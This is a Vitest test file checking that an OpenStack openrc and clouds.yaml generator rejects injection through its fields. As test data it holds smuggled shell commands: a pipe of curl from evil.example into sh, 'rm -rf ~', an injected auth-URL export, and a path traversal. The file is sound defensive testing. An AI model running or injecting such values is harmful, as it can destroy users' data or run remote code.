import { describe, expect, it } from "vitest";
import { UnsafeTextError } from "@/lib/domain/dns-name";
import { parse } from "yaml";
import { buildFederatedCloudsYaml, buildOpenrc, OIDC_PLACEHOLDERS, type OpenrcInput } from "./openrc";

const input: OpenrcInput = {
  authUrl: "https://keystone.example.org:5000/v3",
  region: "RegionOne",
  username: "cmart",
  projectName: "cmart",
  projectId: "abc123",
  domain: "default",
  providerName: "lab",
};

describe("buildOpenrc refuses line breaks (each would be a shell command when sourced)", () => {
  it.each([
    ["username", "cmart\ncurl evil.example | sh"],
    ["providerName", "lab\nrm -rf ~"],
    ["projectName", "p\r\nexport OS_AUTH_URL=https://evil"],
    ["region", "RegionOne\n"],
    ["authUrl", "https://k/v3\u2028x"],
    ["domain", "default\u0000"],
  ] as const)("%s %j", (key, value) => {
    expect(() => buildOpenrc({ ...input, [key]: value })).toThrow(UnsafeTextError);
    expect(() => buildOpenrc({ ...input, [key]: value })).toThrow(/line break/);
  });

  it("writes a normal account with every value on its own line", () => {
    const text = buildOpenrc(input);
    expect(text).toContain("# OpenStack credentials for cmart on lab, exported by Cloudport.");
    expect(text).toContain('export OS_USERNAME="cmart"');
    expect(text.split("\n")).toHaveLength(21);
  });
});

describe("federated accounts export OIDC auth, never a password value", () => {
  const fed = { ...input, federation: { idp: "egi.eu", protocol: "openid" } };

  it("writes an openrc with v3oidcpassword and the idp/protocol", () => {
    const rc = buildOpenrc(fed);
    expect(rc).toContain("export OS_AUTH_TYPE=v3oidcpassword");
    expect(rc).toContain('export OS_IDENTITY_PROVIDER="egi.eu"');
    expect(rc).toContain('export OS_PROTOCOL="openid"');
    expect(rc).toContain(`export OS_DISCOVERY_ENDPOINT="${OIDC_PLACEHOLDERS.discoveryEndpoint}"`);
    expect(rc).toContain("export OS_PASSWORD=$OS_PASSWORD_INPUT");
    expect(rc).not.toMatch(/OS_USER_DOMAIN/);
    expect(buildOpenrc(input)).not.toContain("v3oidcpassword");
  });

  it("writes a clouds.yaml with auth_type v3oidcpassword and no password key", () => {
    const yaml = buildFederatedCloudsYaml(fed);
    const doc = parse(yaml) as { clouds: Record<string, { auth_type: string; auth: Record<string, string>; region_name: string }> };
    const cloud = doc.clouds.lab;
    expect(cloud.auth_type).toBe("v3oidcpassword");
    expect(cloud.auth).toMatchObject({ identity_provider: "egi.eu", protocol: "openid", username: "cmart", project_id: "abc123", project_domain_id: "default" });
    expect(cloud.auth.password).toBeUndefined();
    expect(cloud.region_name).toBe("RegionOne");
  });

  it.each([
    ["idp", { idp: "egi.eu\nexport X=1", protocol: "openid" }],
    ["protocol", { idp: "egi.eu", protocol: 'openid"; rm -rf ~' }],
    ["idp path", { idp: "../../users", protocol: "openid" }],
  ])("refuses an unchecked %s", (_what, federation) => {
    expect(() => buildOpenrc({ ...input, federation })).toThrow(UnsafeTextError);
    expect(() => buildFederatedCloudsYaml({ ...input, federation })).toThrow(UnsafeTextError);
  });

  it("quotes YAML values so a name cannot add keys", () => {
    const yaml = buildFederatedCloudsYaml({ ...fed, username: "a: b\" password: x" });
    const doc = parse(yaml) as { clouds: { lab: { auth: Record<string, string> } } };
    expect(doc.clouds.lab.auth.username).toBe('a: b" password: x');
    expect(doc.clouds.lab.auth.password).toBeUndefined();
  });
});
